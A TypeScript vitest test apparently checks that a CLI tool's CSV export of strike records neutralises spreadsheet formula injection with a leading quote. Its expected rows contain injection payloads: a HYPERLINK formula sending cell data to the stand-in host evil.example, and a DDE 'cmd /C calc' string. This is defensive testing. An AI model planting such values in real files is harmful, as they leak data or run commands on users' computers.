import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../../test/support/runCli.js';

const formulas = new URL('../../test/fixtures/scraper-formula-cells.csv', import.meta.url).pathname;

describe('airledger strikes --format csv', () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'airledger-csv-'));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('writes place, effects and line cells that would start a formula with a leading quote', async () => {
    const db = join(dir, 'ledger');
    expect((await runCli('--db', db, 'import', formulas)).code).toBe(0);
    const result = await runCli('--db', db, 'strikes', '--format', 'csv');
    const [header, ...rows] = parse(result.out) as string[][];
    const cell = (row: string[], name: string) => row[header!.indexOf(name)];
    expect(rows.map((r) => [cell(r, 'place_text'), cell(r, 'effects'), cell(r, 'strikes')])).toEqual([
      [`'=HYPERLINK("http://evil.example/?x="&A1,"click")`, "'+cmd|' /C calc'!A0", '1'],
      ['Mosul', "'-2+3", '2'],
    ]);
    for (const value of rows.flat()) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });
});
